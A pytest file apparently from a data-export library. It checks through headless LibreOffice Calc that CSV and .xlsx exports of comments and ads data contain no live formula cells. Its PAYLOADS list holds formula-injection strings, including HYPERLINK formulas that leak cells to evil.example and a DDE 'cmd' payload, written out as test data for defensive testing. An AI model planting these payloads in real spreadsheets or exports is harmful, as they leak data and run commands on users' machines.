"""The exports for spreadsheets, opened by a real spreadsheet engine: LibreOffice Calc,
headless. Every text and id column of a comments and an ads frame holds payloads that a
spreadsheet runs (``=1+1``, ``+1``, ``-1+1``, ``@SUM(1)``, tab- and CR-led text, a
``HYPERLINK`` that leaks a cell to a server, the id payload that became a live formula:
LibreOffice showed ``1open``); the CSV for spreadsheets and the ``.xlsx`` are opened,
saved by LibreOffice, and every cell it shows is compared with the data. No cell may be
a formula, but the ``="<digits>"`` that keeps an id from being rounded.

Without LibreOffice the test skips (``apt-get install libreoffice-calc-nogui``); under
``CI=true`` (``.ci/run`` installs it) it fails instead.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from datetime import datetime
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from socialframe.sandbox import example_ads, example_comments

pytestmark = pytest.mark.slow  # LibreOffice starts in a few seconds

INSTALL = "LibreOffice Calc is missing: apt-get install libreoffice-calc-nogui"

#: What a spreadsheet would run, were it not kept as text.
PAYLOADS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A2,"open")',
    '1"&HYPERLINK("http://evil.example/?"&G2,"open")&"',
    "'=1+1",
    "=1+1\r\nsecond line",
    "plain text, with a comma",
    "\x00=1+1",  # (LibreOffice drops the NUL: it ran the formula)
    "hi;=1+1",  # (two cells where ; is the separator, the second a formula)
    "ok;=cmd|' /C calc'!A0",
    "tab\t=1+1",
    "line\n@SUM(1)",
    "a, \u200b=1 and ;\u200b-1",  # (zero-width spaces of the text's own)
    " =1+1",  # (a formula once spaces are trimmed: LibreOffice's "Trim spaces")
    "see =1+1",  # (two cells where a space is a separator, the second a formula)
    "hi; @SUM(1)",  # (a separator, then a space the import trims)
)
#: Ids of digits: kept as text by ="...", the one formula allowed.
DIGITS = "7384427202391592960"

#: LibreOffice's CSV import: comma, double quotes, UTF-8, from line 1, special numbers
#: detected, formulas evaluated (what a double-click on a .csv does at its most eager).
CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


@pytest.fixture(scope="module")
def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"on CI: {INSTALL}")
        pytest.skip(INSTALL)
    return found


def _is_id(name: str) -> bool:
    """An id column (named ``id``, or ending as the frames' ids and URNs do)."""
    return name.endswith(("_id", "_urn")) or name == "id"


def _hostile(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` cut to one row per payload, every text and id column holding each
    payload once (shifted by column); id columns hold the digits too."""
    rows = len(PAYLOADS) + 1
    out = pd.concat([frame] * (rows // len(frame) + 1), ignore_index=True).head(rows).copy()
    for number, name in enumerate(out.columns):
        column = out[name]
        text = isinstance(column.dtype, pd.StringDtype) or (
            column.dtype == object and column.map(lambda v: v is None or isinstance(v, str)).all()
        )
        if not text:
            continue
        values: list[Any] = [PAYLOADS[(row + number) % len(PAYLOADS)] for row in range(rows)]
        if _is_id(str(name)):
            values[(number + 3) % rows] = DIGITS
        out[name] = pd.array(values, dtype=column.dtype)
    return out


def _convert(
    soffice: str, sources: list[Path], into: Path, *, csv: bool, options: str = CSV_IMPORT
) -> list[Path]:
    """Each source opened and saved again as .xlsx by LibreOffice (its private profile,
    so that runs side by side do not share one); a CSV read with ``options``."""
    into.mkdir(exist_ok=True)
    profile = (into / "profile").absolute().as_uri()
    command = [soffice, f"-env:UserInstallation={profile}", "--headless", "--norestore"]
    if csv:
        command.append(f"--infilter={options}")
    command += ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(into)]
    done = subprocess.run(
        [*command, *map(str, sources)], capture_output=True, text=True, timeout=300
    )
    converted = [into / f"{source.stem}.xlsx" for source in sources]
    missing = [p for p in converted if not p.is_file()]
    assert not missing, f"LibreOffice converted nothing: {done.stdout} {done.stderr}"
    return converted


def _cells(path: Path) -> tuple[list[list[Any]], list[list[Any]]]:
    """What each cell holds (a formula as its text) and what it shows, row by row."""
    import openpyxl

    held = openpyxl.load_workbook(path).active
    shown = openpyxl.load_workbook(path, data_only=True).active
    formulas = [[c.value if c.data_type == "f" else None for c in row] for row in held.iter_rows()]
    values = [[c.value for c in row] for row in shown.iter_rows()]
    return formulas, values


def _lines(value: Any) -> Any:
    """A cell as XML keeps it: a CR is a line feed there."""
    if isinstance(value, str):
        value = value.replace("\r\n", "\n").replace("\r", "\n")
        return value or None
    return value


def _check(frame: pd.DataFrame, converted: Path, *, csv: bool) -> None:
    """No cell of ``converted`` is a formula (but an id of digits kept as text), and
    every cell shows what ``frame`` holds."""
    formulas, values = _cells(converted)
    header = [_lines(v) for v in values[0]]
    assert header[: len(frame.columns)] == list(frame.columns)
    assert len(values) == len(frame) + 1  # every row, none split by a line break
    for row, (made, seen) in enumerate(zip(formulas, values, strict=True)):
        for column, formula in enumerate(made):
            if formula is None:
                continue
            name = str(frame.columns[column])
            if formula in ("=TRUE()", "=FALSE()") and pd.api.types.is_bool_dtype(frame[name]):
                # (how LibreOffice saves a flag of the .xlsx: a constant, not our data)
                assert seen[column] == bool(frame[name].iloc[row - 1]), (name, row)
                continue
            # the one formula allowed: an id of digits kept as text
            assert row > 0 and _is_id(name), (name, row, formula)
            assert re.fullmatch(r'="\d+"', formula), (name, row, formula)
            assert seen[column] == formula[2:-1], (name, row, seen[column])
    for column, name in enumerate(frame.columns):
        got = [_shown(values[row + 1][column]) for row in range(len(frame))]
        wanted = [_shown(_expected(v, str(name), csv=csv)) for v in frame[name].astype(object)]
        assert got == wanted, name


def _shown(value: Any) -> Any:
    """A cell as compared: a CR is a line feed in XML, an empty text no value, a time to
    the millisecond (what LibreOffice keeps)."""
    if isinstance(value, datetime):
        return value.replace(microsecond=value.microsecond // 1000 * 1000)
    return _lines(value)


def _expected(value: Any, name: str, *, csv: bool) -> Any:
    """What LibreOffice shows for ``value`` of column ``name`` of the export."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and value != value:
        return None
    if isinstance(value, pd.Timestamp):  # RFC 3339 text in the CSV; a time in the .xlsx
        utc = value.tz_convert("UTC")
        return (
            utc.isoformat(timespec="microseconds") if csv else utc.tz_localize(None).to_pydatetime()
        )
    if isinstance(value, pd.Timedelta):
        return str(value)
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        return int(value)
    if isinstance(value, float | np.floating):
        return float(value)
    if isinstance(value, list | dict | np.ndarray):
        held = value.tolist() if isinstance(value, np.ndarray) else value
        return json.dumps(held, ensure_ascii=False, default=str)
    text = str(value)
    if not csv:  # (XML holds no control character: U+FFFD in its place)
        return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)
    if _is_id(name) and text == DIGITS:
        return text  # (="7384…": its value)
    # the CSV for spreadsheets: a zero-width space where a formula would start inside
    # the text, the ' that kept a formula text (LibreOffice shows both); a NUL dropped
    text = re.sub(r"([,; \t\r\n])(?=\u200b*'*[=+\-@\t\r\x00])", "\\1\u200b", text)
    text = "'" + text if re.match(r"'*[=+\-@\t\r\x00]", text) else text
    return text.replace("\x00", "")


@pytest.mark.parametrize("kind", ["comments", "ads"])
def test_no_cell_of_an_export_is_a_formula_in_libreoffice(
    soffice: str, tmp_path: Path, kind: str
) -> None:
    frame = _hostile(example_comments() if kind == "comments" else example_ads(max_ads=20))
    texts = [n for n in frame.columns if frame[n].map(lambda v: isinstance(v, str)).all()]
    assert len(texts) >= 10  # (every text and id column holds the payloads)
    csv_file = frame.social.to_file(tmp_path / f"{kind}.csv", excel=True)
    xlsx_file = frame.social.to_file(tmp_path / f"{kind}.xlsx")
    (from_csv,) = _convert(soffice, [csv_file], tmp_path / "from-csv", csv=True)
    (from_xlsx,) = _convert(soffice, [xlsx_file], tmp_path / "from-xlsx", csv=False)
    _check(frame, from_csv, csv=True)
    _check(frame, from_xlsx, csv=False)


#: LibreOffice's CSV import with the separators a spreadsheet may take for a .csv: the
#: semicolon (Excel's where the comma is the decimal sign), and several at once.
OTHER_SEPARATORS = {
    "semicolon": "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true",
    "comma, semicolon and tab": "CSV:44/59/9,34,76,1,,0,false,true,false,false,false,-1,true",
    # a space (a box to tick in LibreOffice's import and Excel's, kept for the next file)
    "space": "CSV:32,34,76,1,,0,false,true,false,false,false,-1,true",
    # spaces trimmed (LibreOffice's "Trim spaces"): " =1+1" was a formula
    "comma, spaces trimmed": "CSV:44,34,76,1,,0,false,true,false,false,true,-1,true",
    "semicolon, spaces trimmed": "CSV:59,34,76,1,,0,false,true,false,false,true,-1,true",
}


@pytest.mark.parametrize("separators", list(OTHER_SEPARATORS))
def test_no_cell_is_a_formula_whatever_separator_the_spreadsheet_reads_it_with(
    soffice: str, tmp_path: Path, separators: str
) -> None:
    """Read with another separator than the comma, a text is cut where that separator
    is, its quotes are text, a line break in it ends the row: ``hi;=1+1`` was two
    cells, the second a live formula; so was ``see =1+1`` read with a space as the
    separator, and `` =1+1`` with spaces trimmed. The cells come out garbled, as any CSV read so;
    none may be a formula, but an id of digits (``="7384…"``, ours)."""
    frame = _hostile(example_comments())
    path = frame.social.to_file(tmp_path / "comments.csv", excel=True)
    options = OTHER_SEPARATORS[separators]
    (converted,) = _convert(soffice, [path], tmp_path / "converted", csv=True, options=options)
    formulas, _ = _cells(converted)
    found = [f for row in formulas for f in row if f is not None]
    assert [f for f in found if not re.match(r'="\d+"', f)] == []


def test_control_characters_reach_an_xlsx_as_replacement_marks(tmp_path: Path) -> None:
    """XML cannot hold them: openpyxl raised after the calls were paid and left a
    workbook with half its cells empty."""
    import pandas as pd

    frame = pd.DataFrame({"text": pd.array(["bell\x07 vt\x0b esc\x1b", "fine"], dtype="string")})
    out = tmp_path / "ctrl.xlsx"
    frame.social.to_file(out)
    assert pd.read_excel(out)["text"].tolist() == ["bell\ufffd vt\ufffd esc\ufffd", "fine"]


def test_durations_reach_an_xlsx_with_their_unit(tmp_path: Path) -> None:
    import pandas as pd

    spans = pd.to_timedelta([56 * 86400 + 8 * 3600, None, 90], unit="s").astype("timedelta64[s]")
    out = tmp_path / "d.xlsx"
    pd.DataFrame({"total_active_time": spans}).social.to_file(out)
    got = pd.read_excel(out)["total_active_time"].tolist()
    assert got[0] == "56 days 08:00:00" and pd.isna(got[1])  # (before: 56, the unit lost)
    assert got[2] == "0 days 00:01:30"
